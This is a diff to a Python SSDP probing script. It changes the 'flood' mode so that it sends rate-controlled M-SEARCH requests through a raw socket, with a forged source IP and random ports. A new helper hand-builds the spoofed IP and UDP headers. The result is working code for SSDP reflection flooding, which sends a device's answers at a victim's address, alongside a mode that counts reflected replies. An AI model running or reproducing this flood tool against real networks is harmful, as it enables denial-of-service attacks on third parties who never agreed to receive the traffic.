@@ -9,9 +9,10 @@ usage: upnp_ssdp_search.py table DEVICE SOURCE UUID DEVICE-TYPE SERVICE-TYPE
        upnp_ssdp_search.py forged DEVICE FORGED-SOURCE
          sends one M-SEARCH for ssdp:all through a raw socket with FORGED-SOURCE as its source
          address and prints the number of answers that reach this host on the forged port
-       upnp_ssdp_search.py flood DEVICE SOURCE SECONDS RATE ST...
-         sends RATE M-SEARCHes a second (MX 5, the targets in turn, each from a new port) from
-         SOURCE for SECONDS seconds, then prints the number sent
+       upnp_ssdp_search.py flood DEVICE FORGED-SOURCE SECONDS RATE ST...
+         sends RATE M-SEARCHes a second (MX 5, the targets in turn, each from another port)
+         through a raw socket with FORGED-SOURCE as their source address for SECONDS seconds,
+         then prints the number sent
 """
 import random
 import select
@@ -99,29 +100,32 @@ def checksum(data):
     return ~(total + (total >> 16)) & 0xFFFF
 
 
-def forged(device, source):
-    """One M-SEARCH whose IP source is forged; counts the answers that come back here."""
-    receiver = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
-    receiver.bind(("0.0.0.0", 0))
-    port = receiver.getsockname()[1]
-    payload = search("ssdp:all")
+def send_forged(raw, source, port, device, payload):
+    """Sends payload as a UDP datagram from source:port to device:1900 through the raw socket."""
     udp = struct.pack("!HHHH", port, 1900, 8 + len(payload), 0) + payload
     header = struct.pack("!BBHHHBBH4s4s", 0x45, 0, 20 + len(udp), random.randint(1, 65535), 0, 64,
                          socket.IPPROTO_UDP, 0, socket.inet_aton(source), socket.inet_aton(device))
     header = header[:10] + struct.pack("!H", checksum(header)) + header[12:]
-    raw = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW)
     raw.sendto(header + udp, (device, 0))
+
+
+def forged(device, source):
+    """One M-SEARCH whose IP source is forged; counts the answers that come back here."""
+    receiver = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
+    receiver.bind(("0.0.0.0", 0))
+    raw = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW)
+    send_forged(raw, source, receiver.getsockname()[1], device, search("ssdp:all"))
     print(len(answers(receiver, 1.5)))
     return 0
 
 
 def flood(device, source, seconds, rate, targets):
+    raw = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW)
     sent = 0
     end = time.monotonic() + seconds
     while time.monotonic() < end:
-        sock = open_socket(source)
-        sock.sendto(search(targets[sent % len(targets)], mx="5"), (device, 1900))
-        sock.close()
+        send_forged(raw, source, random.randint(1024, 65535), device,
+                    search(targets[sent % len(targets)], mx="5"))
         sent += 1
         time.sleep(1.0 / rate)
     print(sent)
